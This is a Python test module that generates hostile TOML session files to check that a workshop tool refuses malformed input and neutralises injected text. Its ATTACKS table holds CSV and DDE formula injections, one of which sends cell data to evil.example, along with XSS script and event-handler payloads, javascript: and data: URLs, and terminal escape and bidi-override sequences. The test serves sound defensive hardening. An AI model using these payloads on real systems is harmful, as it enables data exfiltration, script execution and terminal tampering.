"""A corpus of hostile session files, each named for what it attacks (issue #18).

Every entry starts from the English Day 2 sample (a session with every part:
reviews, cases, scores, milestones, TODOs, meetings, a frozen Day 1) and
changes one thing. ``refused`` entries must be refused by every command with
one line naming the TOML path given; ``accepted`` entries hold hostile *text*
that every command must take and every output must render harmless.
"""

from __future__ import annotations

import tomllib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import tomli_w

SAMPLE = Path(__file__).resolve().parents[1] / "sample_workshops" / "en_ec_recommendations_day2.toml"

Data = dict[str, Any]


@dataclass(frozen=True)
class Hostile:
    name: str
    #: Changes the sample's data in place (``None``: ``text`` alone makes the file).
    change: Callable[[Data], None] | None = None
    #: Text appended to the file after the change (nesting attacks are text).
    tail: str = ""
    #: The TOML path the refusal names; "" for an accepted file.
    refused_at: str = ""

    def write(self, folder: Path) -> Path:
        data = tomllib.loads(SAMPLE.read_text(encoding="utf-8"))
        if self.change is not None:
            self.change(data)
        path = folder / f"{self.name}.toml"
        path.write_text(tomli_w.dumps(data) + self.tail, encoding="utf-8")
        return path


def _set(*path: str | int, value: Any) -> Callable[[Data], None]:
    def change(data: Data) -> None:
        node: Any = data
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value

    return change


def _all(*changes: Callable[[Data], None]) -> Callable[[Data], None]:
    def change(data: Data) -> None:
        for one in changes:
            one(data)

    return change


JST = timezone(timedelta(hours=9))
DEEP = 10_000

REFUSED: tuple[Hostile, ...] = (
    Hostile("wrong_type_table_where_an_id_belongs", _set("participants", 0, "id", value={"a": 1}), refused_at="participants[0].id"),
    Hostile("wrong_type_list_where_the_title_belongs", _set("title", value=[1, 2]), refused_at="title"),
    Hostile("wrong_type_text_where_a_score_belongs", _set("scores", "maria", "c1", "i1", value="full"), refused_at="scores.maria.c1.i1"),
    Hostile("year_9999_meeting", _set("meetings", 0, "start", value=datetime(9999, 1, 1, 10, tzinfo=JST)), refused_at="meetings[0].start"),
    Hostile("year_1_milestone", _set("milestones", 0, "due", value=date(1, 1, 1)), refused_at="milestones[0].due"),
    Hostile("year_9999_todo", _set("todos", 0, "due", value=date(9999, 12, 31)), refused_at="todos[0].due"),
    Hostile("year_1_day_start", _set("progress", "started_at", value=datetime(1, 1, 2, tzinfo=JST)), refused_at="progress.started_at"),
    Hostile("negative_minutes", _set("meetings", 0, "duration_min", value=-5), refused_at="meetings[0].duration_min"),
    Hostile("a_billion_minutes", _set("meetings", 0, "duration_min", value=10**9), refused_at="meetings[0].duration_min"),
    Hostile("a_trillion_allotted_minutes", _set("day2", "allotted_min", "invent", value=10**12), refused_at="day2.allotted_min.invent"),
    Hostile("a_timer_of_a_million_days", _set("timer", "duration_s", value=86_400 * 10**6), refused_at="timer.duration_s"),
    Hostile("a_name_of_101_characters", _set("participants", 0, "name", value="N" * 101), refused_at="participants[0].name"),
    Hostile("a_review_of_4001_characters", _set("reviews", 0, "text", value="r" * 4001), refused_at="reviews[0].text"),
    Hostile("a_participant_name_of_3_6_mb", _set("participants", 0, "name", value="x" * 3_600_000), refused_at="participants[0].name"),
    Hostile("nesting_10000_arrays_deep", tail="\ndeep = " + "[" * DEEP + "]" * DEEP + "\n", refused_at="line"),
    Hostile("nesting_10000_inline_tables_deep", tail="\ndeep = " + "{a = " * DEEP + "1" + "}" * DEEP + "\n", refused_at="line"),
)

ATTACKS = {
    "csv_formula": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "dde_command": "+cmd|' /C calc'!A0",
    "at_function": "@SUM(1+1)",
    "minus_formula": "-2+3",
    "tab_formula": "\t=1+1",
    "script_tag": "<script>alert(1)</script>",
    "img_onerror": '<img src=x onerror="alert(1)">',
    "javascript_link": "[click](javascript:alert(1))",
    "entity": "&lt;script&gt;",
    "escape_sequence": "\x1b[2J\x1b]0;owned\x07",
    "bidi_override": "abc\u202edcba\u2066x\u2069",
    "c1_control": "next\x85line\x9b31m",
}


def _text_everywhere(text: str) -> Callable[[Data], None]:
    """``text`` in a participant's name, a case's name and source, an item's
    title, a review, a milestone and a TODO: every export shows some of them."""
    return _all(
        _set("participants", 0, "name", value=text[:100]),
        _set("cases", 0, "name", value=text[:100]),
        _set("cases", 0, "source", value=text),
        _set("items", 0, "title", value=text[:100]),
        _set("reviews", 0, "text", value=text),
        _set("milestones", 0, "title", value=text[:100]),
        _set("todos", 0, "text", value=text),
        _set("title", value=text[:100]),
    )


ACCEPTED: tuple[Hostile, ...] = tuple(Hostile(name, _text_everywhere(text)) for name, text in ATTACKS.items()) + (
    Hostile("a_markdown_link_to_a_data_url", _set("cases", 0, "source", value="data:text/html;base64,PHNjcmlwdD4=")),
    Hostile("an_https_url_breaking_out_of_its_autolink", _set("cases", 0, "source", value='https://ok.example/"><script>alert(1)</script>')),
)
